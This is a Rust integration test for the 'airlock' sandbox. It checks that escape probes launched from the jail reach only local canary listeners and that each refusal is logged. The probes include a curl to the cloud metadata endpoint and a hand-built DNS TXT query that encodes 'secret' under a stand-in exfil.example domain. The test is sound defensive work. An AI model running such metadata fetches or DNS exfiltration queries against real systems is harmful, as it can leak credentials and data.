//! Escape attempts from `airlock run`, run inside a network namespace this test creates
//! first (`unshare -rn`), where the target addresses exist and carry canary listeners.
//! Even a broken jail could then only reach the canaries, never another machine; and a
//! canary that records anything proves the jail leaked. Every probe must fail inside the
//! jail, the canaries must record nothing, and the refusals must be logged.

use std::time::Duration;

use crate::support;
use crate::support::clients::run_bounded;
use crate::support::run::{RunHome, namespaces_available, read_lines};

/// The canary listeners shared with `gateway_namespaces.rs` (usage in the script).
const CANARIES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/canaries.py");
/// The harness namespace's canary addresses, as `canaries.py` takes them.
const CANARY_SPECS: &str = "tcp:203.0.113.9:443 tcp:203.0.113.9:2222 tcp:169.254.169.254:80 \
                            udp:192.0.2.53:53 udp:198.51.100.1:443";

/// Run inside the jail.
const PROBES: &str = r#"
import socket, struct
def tcp(addr, port):
    s = socket.socket(); s.settimeout(5)
    try:
        s.connect((addr, port)); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); answer = s.recv(100)
        # airlock's catch-all port answers a port no rule names: its refusal, not the canary.
        return "airlock403" if answer.split(b" ")[1:2] == [b"403"] else "connected:%r" % answer[:40]
    except OSError: return "failed"
print("TCP2222=" + tcp("203.0.113.9", 2222))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
try:
    u.sendto(b"quic-initial", ("198.51.100.1", 443)); u.recvfrom(100); print("UDP443=answered")
except OSError: print("UDP443=nothing")
name = b"".join(bytes([len(p)]) + p for p in b"c2VjcmV0.exfil.example".split(b".")) + b"\0"
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1)
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.settimeout(5)
d.sendto(q, ("192.0.2.53", 53)); reply, _ = d.recvfrom(4096)
print("DNS=answers%d" % struct.unpack(">H", reply[6:8])[0])
"#;

#[test]
fn probes_from_the_jail_never_reach_canaries_in_the_harness_namespace() {
    if !namespaces_available("probes_from_the_jail_never_reach_canaries_in_the_harness_namespace") {
        return;
    }
    crate::support::need_all(&["curl", "python3"]);
    let home = RunHome::new();
    let scratch = home.scratch();
    let canaries = std::path::Path::new(CANARIES);
    let probes = scratch.join("probes.py");
    std::fs::write(&probes, PROBES).expect("probes");
    let hits = scratch.join("canary-hits");
    let up = scratch.join("canaries-up");
    let log = home.log_path();
    let inner = format!(
        "curl -sS --max-time 10 https://203.0.113.9/ -o /dev/null -w 'HTTPS=%{{http_code}}\\n'; \
         curl -sS --max-time 10 http://169.254.169.254/latest/meta-data/ -o /dev/null -w 'META=%{{http_code}}\\n'; \
         python3 {}",
        probes.display()
    );
    let harness = format!(
        "set -e; ip link set lo up; \
         for a in 203.0.113.9 169.254.169.254 192.0.2.53 198.51.100.1; do ip addr add $a/32 dev lo; done; \
         python3 {canaries} {hits} {up} {CANARY_SPECS} >/dev/null 2>&1 & CANARY=$!; \
         i=0; while [ ! -e {up} ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done; \
         python3 -c \"import socket; socket.create_connection(('203.0.113.9', 2222), 2).close()\"; \
         {airlock} run --log {log} -- sh -c \"$INNER\"; \
         sleep 0.5; kill $CANARY",
        canaries = canaries.display(),
        hits = hits.display(),
        up = up.display(),
        airlock = env!("CARGO_BIN_EXE_airlock"),
        log = log.display(),
    );
    let mut command = match support::test_user::uid() {
        Some(uid) => {
            support::need("unshare");
            let mut wrapped = support::test_user::wrap(uid);
            wrapped.arg("unshare");
            wrapped
        }
        None => crate::support::tool("unshare"),
    };
    command
        .args(["--map-root-user", "--net", "sh", "-c", &harness])
        .env("INNER", &inner)
        .env("AIRLOCK_HOME", home.airlock_home())
        .current_dir(&scratch);
    let output = run_bounded(&mut command, Duration::from_secs(90));
    let stdout = String::from_utf8_lossy(&output.stdout);
    if output.stderr.contains("unshare failed") {
        crate::support::skip_or_fail(&format!(
            "the kernel refuses the harness namespace (`unshare --map-root-user --net` needs \
             unprivileged user namespaces): {}",
            output.stderr
        ));
        return;
    }
    assert!(
        up.exists(),
        "the canaries never started: {stdout}\n{}",
        output.stderr
    );
    // The harness's own control connection (outside the jail) proves the canaries listen;
    // it must be the only contact they recorded.
    let recorded = std::fs::read_to_string(&hits).unwrap_or_default();
    let contacts: Vec<&str> = recorded.lines().collect();
    assert_eq!(
        contacts.len(),
        1,
        "a probe from the jail reached a canary (or the control did not):\n{recorded}"
    );
    assert!(
        contacts[0].starts_with("tcp 203.0.113.9:2222"),
        "{recorded}"
    );
    assert!(stdout.contains("HTTPS=403"), "{stdout}\n{}", output.stderr);
    assert!(stdout.contains("META=403"), "{stdout}\n{}", output.stderr);
    assert!(stdout.contains("TCP2222=airlock403"), "{stdout}");
    assert!(stdout.contains("UDP443=nothing"), "{stdout}");
    assert!(stdout.contains("DNS=answers0"), "{stdout}");
    let lines = read_lines(&log);
    for host in ["203.0.113.9", "169.254.169.254"] {
        assert!(
            lines
                .iter()
                .any(|l| l["decision"] == "deny" && l["host"] == host),
            "no refusal logged for {host}: {lines:?}"
        );
    }
    assert!(
        lines
            .iter()
            .any(|l| l["decision"] == "deny" && l["port"] == 2222),
        "no refusal logged for port 2222: {lines:?}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l["kind"] == "dns" && l["qtype"] == "TXT"),
        "the TXT query is logged: {lines:?}"
    );
}
